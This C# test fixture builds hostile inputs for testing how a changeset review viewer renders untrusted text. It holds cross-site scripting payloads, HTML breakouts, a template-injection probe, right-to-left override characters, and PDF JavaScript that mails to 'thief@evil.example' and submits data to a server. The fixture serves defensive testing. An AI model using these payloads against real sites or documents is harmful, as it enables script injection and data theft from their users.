using System.Text;

namespace DolibarrAgent.Review.Tests;

/// <summary>What somebody sends who knows that it will be shown by a browser.</summary>
internal static class HtmlHostility
{
    public static string Html(string server) =>
        $"<u>x</u></title></style></bdi></td></table><script>document.title='owned';fetch('{server}/script')</script><img src={server}/img onerror=\"document.title='owned'\"> \" onfocus='document.title=1' autofocus x=\" --> ]]> <a href=\"javascript:document.title='owned'\">click</a> <base href={server}/> <meta http-equiv=refresh content=\"0;url={server}/refresh\"> <iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe> <svg onload=document.title='owned'> &#x3c;script&#x3e; {{{{7*7}}}}";

    public static string PdfScript(string server) =>
        $"app.alert(\"Approved\"); app.mailMsg(false, \"thief@evil.example\"); try {{ this.submitForm(\"{server}/submit\"); }} catch (e) {{}} try {{ app.launchURL(\"{server}/launch\"); }} catch (e) {{}} this.getURL(\"{server}/get\");";

    /// <summary>The same text wherever a changeset has room for text, and letters that are read from right to left.</summary>
    public static Changeset Changeset(string html)
    {
        return Examples.Invoice with
        {
            Title = html,
            Recorded = Examples.Invoice.Recorded with { By = html, Model = html, Author = html },
            Evidence =
            [
                new Evidence.Email { Id = "mail", Sha256 = Examples.Mail, Size = 7, From = html, Subject = html, MessageId = html },
                new Evidence.File { Id = "pdf", In = "mail", Name = $"\"><script>document.title='owned'</script>{html}.pdf", Sha256 = Examples.Pdf, Size = 9, Says = Fields.None.With("sellerName", html).With("gross", html).With(html, html) },
                new Evidence.Instruction { Id = "said", Text = html, By = html },
            ],
            Operations =
            [
                new Operation.Create
                {
                    Id = "op1", Resource = html, From = ["pdf", "mail", "said"], Keys = [html], Note = html,
                    Set = Fields.None.With("name", html).With(html, html).With("town", "קניית ספרים 123 (שלום) abc"),
                    After = Fields.None.With("name", "x" + html),
                },
                new Operation.Update
                {
                    Id = "op2", Resource = "supplierInvoice", On = new Reference.Found(Fields.None.With(html, html)), From = ["pdf"],
                    Before = Fields.None.With("lines", [Fields.None.With("description", html).With("unitPrice", html)]),
                    Set = Fields.None.With("lines", [Fields.None.With("description", html + "2").With("unitPrice", "1"), Fields.None.With("description", "שורה").With(html, new string('W', 300))]),
                    After = Fields.None.With("lines", [Fields.None.With("description", html)]),
                },
            ],
            Warnings = [new Warning(html, html, html), new Warning("all-is-well", "op1", html)],
        };
    }

    public static IReadOnlyDictionary<string, byte[]> Bytes(string server) => new Dictionary<string, byte[]>
    {
        ["mail"] = Encoding.UTF8.GetBytes($"From: x\r\n\r\n{Html(server)}\u202e\r\n<!--\r\n   <script>{Html(server)}"),
        ["pdf"] = Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?><?xml-stylesheet href=\"{server}/style\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"document.title='owned'\">{Html(server)}</svg>"),
    };
}
